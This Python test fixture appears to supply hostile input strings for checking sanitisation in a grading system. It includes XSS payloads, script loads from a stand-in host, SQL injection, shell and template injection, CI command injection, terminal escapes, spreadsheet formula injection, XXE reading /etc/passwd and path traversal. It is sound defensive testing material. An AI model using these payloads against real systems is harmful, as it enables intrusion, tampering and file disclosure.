"""Hostile strings by kind: all that a student may put into a name, a message, a line, or what is printed.

What acts sets `window.__pwned` in a page, asks for something of `pwned.invalid`, or
leaves a mark that a judge of the sink knows. Every string holds the word `pwned`,
so that a test can see that it got as far as the sink at all.
"""

from __future__ import annotations

WORD = "pwned"
"""Stands in every hostile string, in characters that no sink changes."""

PLAIN = "plain pwned text"
"""What is put in the place of a hostile string to see what a sink holds of its own."""

RUN = "window.__pwned=1"
URL = "http://pwned.invalid/x"

KINDS: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RUN}</script>",
        f"<ScRiPt src='{URL}.js'></sCrIpT >",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script>{RUN}</script>",
    ),
    "event handlers": (
        f"<img src=x onerror={RUN}>",
        f"<details open ontoggle={RUN}>pwned",
        f"<input autofocus onfocus={RUN}><body onload={RUN}>",
        f"<p style=animation-name:x onanimationstart={RUN}>pwned",
    ),
    "svg and other elements": (
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg><math><mi xlink:href='javascript:{RUN}'>x",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data='{URL}'></object><embed src='{URL}'><link rel=stylesheet href='{URL}'>",
        f"<meta http-equiv=refresh content='0;url={URL}'><base href='{URL}'><form action='{URL}'>",
        f"<style>@import '{URL}';*{{background:url({URL})}}</style>",
    ),
    "addresses": (
        f"javascript:{RUN}",
        f"<a href='javascript:{RUN}'>pwned</a> <a href='{URL}'>x</a>",
        f"data:text/html,<script>{RUN}</script>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>pwned</a> //pwned.invalid/x \\\\pwned.invalid\\x",
    ),
    "ends of elements": (
        f"</script><script>{RUN}</script>",
        f"</style></title></textarea></pre></noscript></template><img src=x onerror={RUN}>",
        f"--><img src=x onerror={RUN}><!-- <![CDATA[ <!doctype pwned>",
        f"\u2028{RUN}\u2029</sc\x00ript><script>{RUN}</script>",
    ),
    "ends of attributes": (
        f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
        f"' onmouseover='{RUN}' style='background:url({URL})' x='",
        f"` onerror={RUN} ` &quot; onload=&quot;{RUN}",
        f'"><img src=x onerror="{RUN}">',
    ),
    "templates": (
        "{{7*7}} pwned {{config}} {{''.__class__.__mro__}}",
        "{% import os %}{% raw %} pwned {% include '/etc/passwd' %} {# pwned #}",
        "${7*7} pwned #{7*7} <%= 7*7 %> {0.__class__} %(pwned)s %s %n %x",
        "$(touch pwned) `touch pwned` ; touch pwned & | pwned > pwned",
    ),
    "markdown": (
        f"[pwned]({URL}) ![pwned]({URL}) [pwned]: {URL} [^pwned]",
        f"<{URL}> {URL} www.pwned.invalid pwned@pwned.invalid ftp://pwned.invalid mailto:pwned@pwned.invalid",
        "@pwned and @pwned/team, #1 and GH-1 and pwned/pwned#1, :skull: pwned",
        "*pwned* **pwned** __pwned__ ~~pwned~~ ==pwned== `pwned` ``pwned `` ||pwned||",
        "| pwned | pwned |\n|---|---|\n| pwned | pwned |",
        "# pwned\n## pwned\npwned\n===\n- pwned\n1. pwned\n> pwned\n\n    pwned\n***",
        "```\n~~~~\n````` pwned\n``````html\n<b>pwned</b>",
        "$pwned$ $$pwned$$ \\(pwned\\) \\[pwned\\] \\href{javascript:pwned}{x}",
        f"\\[pwned\\]({URL}) <!-- pwned <b>pwned</b> &lt;b> <details><summary>pwned",
    ),
    "commands of build servers": (
        "::error file=pwned,line=1::pwned",
        "x\n::set-output name=score::pwned\r\n::add-mask::pwned\r::stop-commands::pwned",
        "%0A::error::pwned%0D%250A,line=9:pwned::warning::pwned",
        "##[error]pwned ##[group]pwned ##vso[task.complete result=Succeeded;]pwned ##teamcity[pwned]",
        f"pwned {'x' * 60} ::notice title=pwned::pwned {'y' * 61}::set-env name=PATH::pwned",
        "x, ::GROUP::pwned\t::EndGroup::pwned\n  ::debug::pwned",
    ),
    "escape sequences": (
        "\x1b[31mpwned\x1b[0m \x1b[2J\x1b[H\x1b[1A\x1b[2Kpwned",
        "\x1b]8;;http://pwned.invalid\x1b\\pwned\x1b]8;;\x1b\\ \x1b]8;;http://pwned.invalid\x07x",
        "\x1b]52;c;cHduZWQ=\x07 \x1b]0;pwned\x07 \x1b]2;pwned\x1b\\ \x1b]1337;File=pwned\x07",
        "\x9b31mpwned \x9d52;c;cHduZWQ=\x9c \x90pwned\x9c \x85pwned",
        "\x1bP pwned\x1b\\ \x1b_pwned\x1b\\ \x1b^pwned\x1b\\ \x1bc \x1b[?1049h \x1b[6n \x1b[5i",
        "pwned\x07\x08\x08\x08\x7f overwritten\rpwned\x0b\x0cpwned\x0e\x0f\x1a",
    ),
    "markup of terminals": (
        "[red]pwned[/red] [bold on white]pwned[/]",
        "[link=http://pwned.invalid]pwned[/link] [@click=app.pwned]pwned[/] [not closed pwned",
        ":pile_of_poo: pwned [/] [/pwned] \\[red]pwned",
    ),
    "formulas": (
        '=HYPERLINK("http://pwned.invalid","pwned")',
        "-pwned+1",
        "@SUM(pwned)",
        "\t=pwned",
        "\n=pwned",
        "   =pwned",
        "\xa0=pwned",
        "\uff1dpwned",
        "\uff0bpwned \uff0dpwned \uff20pwned",
        "=cmd|' /C calc'!A0 pwned",
        "\u200b=pwned",
        "pwned;=1+1;-2;@pwned;\t=3; =4",
    ),
    "ends of cells": (
        'pwned","=1+1","pwned',
        "pwned\n=1+1,pwned\r\n-pwned,9",
        'pwned"\n"=1+1"\r"pwned',
        "pwned,100,100\tpwned;100;100",
        "'=pwned",
        '"=pwned"',
    ),
    "statements": (
        "pwned'); DROP TABLE students; --",
        'pwned" OR "1"="1',
        "pwned\\'; UPDATE students SET score=100; /*",
    ),
    "data": (
        '"}],"score":100,"pwned":[{"a":"',
        '\\u0000 \\ud800 pwned \\x1b[31m \\\\ \\" NaN Infinity',
        "pwned\u2028\u2029\x7f\x80",
    ),
    "directions": (
        "\u202egnp.denwp\u202c pwned",
        "\u202a\u202b\u202d pwned \u2066\u2067\u2068\u2069 pwned",
        "\u200e\u200f\u061c pwned",
    ),
    "what can't be seen": (
        "pw\u200bned pwned\u200c\u200d\u2060\ufeff",
        "\ufeffpwned\u00ad\u180e\u3164\u115f\u2800",
        "pwned" + "".join(chr(0xE0000 + ord(each)) for each in "pwned") + "\U000e0001\U000e007f",
        "pwned\u2061\u2062\u2063\u2064\ufff9x\ufffay\ufffb",
        "pwned\ue000\U000f0000\u0378\ufdd0",
    ),
    "not for XML": (
        "".join(map(chr, range(9))) + "pwned\x0b\x0c\x0e\x1f",
        "pwned\ufffe\uffff\U0001fffe\U0010ffff",
        "pwned]]></failure></testcase><testcase name='pwned'/>",
        "<!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/passwd'>]>&pwned;&amp;&#0;&#x1b;",
    ),
    "halves of characters": (
        "pwned\ud800",
        "\udfffpwned\udc80\udcff\udced\udca0",
        "pwned\ud83d \ude00pwned",
    ),
    "stacks of marks": (
        "pwned" + "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 40,
        "pwned\u20e0\u20dd" * 30 + "\u0489" * 100,
    ),
    "names of files": (
        "../../../../etc/pwned",
        "C:\\pwned",
        "\\\\pwned.invalid\\share",
        "COM1.pwned",
        "nul.pwned",
        "pwned.",
        ".pwned",
        "-rf pwned",
        "pwned:stream",
        'pwned<>:"|?*',
        "~pwned%2e%2e%2f%00\0.py",
        "pwned/" * 40,
    ),
    "length": (
        "pwned" + "x" * 50_000,
        "pwned\n" * 20_000,
        "pwned\u202e" + "\x1b[31m<b>" * 5_000,
        "pwned" + "\ud800" * 250,
        "n" * 245 + "pwned",
    ),
}
"""What each kind attacks is said by its name."""
